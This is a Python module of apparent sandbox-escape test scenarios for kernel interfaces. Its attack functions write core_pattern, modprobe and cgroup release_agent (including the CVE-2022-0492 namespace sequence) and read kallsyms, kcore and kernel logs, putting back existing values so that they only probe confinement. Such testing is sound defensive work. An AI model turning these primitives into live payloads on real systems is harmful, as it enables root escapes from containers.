"""Kernel interfaces: sysctls, /sys, sysrq, cgroup release agents, kernel logs and memory.

Writes write back the value already there: the negative control (root, no sandbox) proves
the write is possible without changing the host.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from sentinel.breakout.arena import Arena
from sentinel.breakout.scenario import UNPRIVILEGED_UID, Family, Scenario

K = Family.KERNEL
UID = UNPRIVILEGED_UID

WRITE_SAME = """
def attack(A):
    path = {path!r}
    with open(path) as handle:
        current = handle.read()
    with open(path, "w") as handle:
        handle.write({value})
    escaped(f"wrote {{path}} (its current value, unchanged)")
"""


def _exists(path: str) -> Callable[[Arena], str | None]:
    def precondition(arena: Arena) -> str | None:
        return None if Path(path).exists() else f"this kernel has no {path}"

    return precondition


def _needs(fact: str, why: str) -> Callable[[Arena], str | None]:
    def precondition(arena: Arena) -> str | None:
        return None if arena.facts.get(fact) else why

    return precondition


SCENARIOS = [
    Scenario("kern-proc-sys", K, "write a global sysctl under /proc/sys", ("bwrap", UID),
             WRITE_SAME.format(path="/proc/sys/vm/overcommit_memory", value="current")),
    Scenario("kern-core-pattern", K, "rewrite kernel.core_pattern (runs a program as root on crash)",
             ("bwrap", UID), WRITE_SAME.format(path="/proc/sys/kernel/core_pattern", value="current")),
    Scenario("kern-modprobe-path", K, "rewrite kernel.modprobe (runs a program as root)",
             ("bwrap", UID), WRITE_SAME.format(path="/proc/sys/kernel/modprobe", value="current"),
             precondition=_exists("/proc/sys/kernel/modprobe")),
    Scenario("kern-sysrq", K, "trigger a magic SysRq (here 'h', which only prints help)",
             ("bwrap", UID), """
def attack(A):
    with open("/proc/sysrq-trigger", "w") as handle:
        handle.write("h")
    escaped("wrote /proc/sysrq-trigger")
""", precondition=_exists("/proc/sysrq-trigger")),
    Scenario("kern-sys-write", K, "write a kernel setting under /sys", ("bwrap", UID), """
def attack(A):
    path = "/sys/kernel/mm/transparent_hugepage/enabled"
    with open(path) as handle:
        current = handle.read().split("[")[1].split("]")[0]
    with open(path, "w") as handle:
        handle.write(current)
    escaped(f"wrote {path} (its current value, unchanged)")
""", precondition=_needs("thp", "no /sys/kernel/mm/transparent_hugepage on this host")),
    Scenario("kern-release-agent", K, "rewrite a cgroup v1 release_agent (runs as root)",
             ("bwrap", UID), """
def attack(A):
    path = A["release_agent"]
    with open(path) as handle:
        current = handle.read()
    with open(path, "w") as handle:
        handle.write(current if current.strip() else "\\n")
    escaped(f"wrote {path}")
""", precondition=_needs("release_agent", "no cgroup v1 hierarchy with a release_agent")),
    Scenario("kern-release-agent-userns", K,
             "mount cgroup v1 in new namespaces and set release_agent (CVE-2022-0492)",
             ("seccomp", "bwrap", UID), """
def attack(A):
    if os.geteuid() != 0:
        check(libc.unshare(0x10000000), "unshare(CLONE_NEWUSER)")
        uid = os.getuid()
        with open("/proc/self/setgroups", "w") as handle:
            handle.write("deny")
        with open("/proc/self/uid_map", "w") as handle:
            handle.write(f"0 {uid} 1")
    check(libc.unshare(0x00020000 | 0x02000000), "unshare(CLONE_NEWNS | CLONE_NEWCGROUP)")
    check(libc.mount(b"none", b"/", None, 0x4000 | 0x40000, None), "mount --make-rprivate /")
    os.makedirs("cg", exist_ok=True)
    controller = A["cgroup_v1_controller"].encode()
    check(libc.mount(b"cgroup", b"cg", b"cgroup", 0, controller), "mount cgroup v1")
    with open("cg/release_agent") as handle:
        current = handle.read()
    with open("cg/release_agent", "w") as handle:
        handle.write(current if current.strip() else "\\n")
    escaped("mounted cgroup v1 and wrote its release_agent")
""", precondition=_needs("cgroup_v1_controller", "no cgroup v1 controller on this host")),
    Scenario("kern-cgroup-escape", K, "move itself out of its cgroup into the host's root cgroup",
             ("bwrap", UID), """
def attack(A):
    path = A["release_agent"].rsplit("/", 1)[0] + "/cgroup.procs"
    with open(path, "w") as handle:
        handle.write(str(os.getpid()))
    escaped(f"joined {path}")
""", precondition=_needs("release_agent", "no cgroup v1 hierarchy on this host")),
    Scenario("kern-kmsg", K, "read the kernel log through /dev/kmsg", ("bwrap", UID), """
def attack(A):
    fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    record = os.read(fd, 8192)
    escaped(f"read a kernel log record ({len(record)} bytes)")
"""),
    Scenario("kern-syslog", K, "read the kernel log with syslog(2)", ("seccomp", UID), """
def attack(A):
    buffer = ctypes.create_string_buffer(4096)
    read = syscall(103, 3, buffer, 4096)
    escaped(f"read {read} bytes of the kernel log")
"""),
    Scenario("kern-kallsyms", K, "read kernel symbol addresses (defeats KASLR)", (UID,), """
def attack(A):
    lines = read_bytes("/proc/kallsyms", 1 << 16).splitlines()[:200]
    if any(int(line.split()[0], 16) for line in lines):
        escaped("/proc/kallsyms shows real kernel addresses")
    blocked("kernel addresses are hidden (all zero)")
"""),
    Scenario("kern-kcore", K, "read kernel memory through /proc/kcore", (UID,), """
def attack(A):
    data = read_bytes("/proc/kcore", 64)
    escaped(f"read {len(data)} bytes of /proc/kcore")
""", precondition=_exists("/proc/kcore")),
]  # fmt: skip
